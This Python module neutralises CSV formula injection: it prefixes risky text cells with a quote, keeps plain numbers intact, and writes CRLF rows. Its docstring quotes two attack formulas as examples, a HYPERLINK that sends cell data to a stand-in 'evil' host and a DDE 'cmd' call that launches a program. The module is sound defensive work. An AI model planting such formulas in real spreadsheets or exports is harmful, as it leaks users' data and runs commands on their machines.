"""CSV cells that a spreadsheet would run as formulas are neutralised (CSV / formula injection).

Class names, folder and file names come from users. Opened in Excel, LibreOffice or Google
Sheets, a cell such as ``=HYPERLINK("http://evil/?"&A1)`` or ``=cmd|' /C calc'!A0`` is run as a
formula. Every CSV the product writes goes through :func:`neutralise_row`.

The rule is OWASP's (https://owasp.org/www-community/attacks/CSV_Injection): a text cell that
starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return gets a leading single quote,
which spreadsheets show as text and do not evaluate. It is applied by rule to every cell, not
only to the ones known to come from users, so that a column added later is covered too. Real
numbers stay numbers: Python ints and floats are left alone, and so is text that is a plain
decimal number (``-0.25``, ``+3``, ``1e-5``), which a spreadsheet reads as that number and
never as a formula. defusedcsv was not used: it misses tab and carriage return and rewrites
``|`` inside cells.

Rows end in CRLF (RFC 4180): Python's csv module quotes a cell only for the characters of its
line terminator, so with ``\n`` alone a bare ``\r`` in a file name was written unquoted and
readers (spreadsheets included) split the row there, which also unmasked the rest of the cell.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+\.?\d*|\.\d+)(?:[eE][+-]?\d+)?")


def neutralise(value: object) -> object:
    """The cell value, with a leading ``'`` if it is text a spreadsheet would run as a formula."""
    if (isinstance(value, str) and value.startswith(FORMULA_START)
            and not _PLAIN_NUMBER.fullmatch(value)):
        return "'" + value
    return value


def neutralise_row(values: Iterable[object]) -> list[object]:
    """A row ready for ``csv.writer(...).writerow``: every cell through :func:`neutralise`."""
    return [neutralise(v) for v in values]


def csv_line(values: Iterable[object]) -> str:
    """One CSV row (CRLF-terminated, cells with line breaks quoted), neutralised."""
    buf = io.StringIO()
    csv.writer(buf, lineterminator="\r\n").writerow(neutralise_row(values))
    return buf.getvalue()
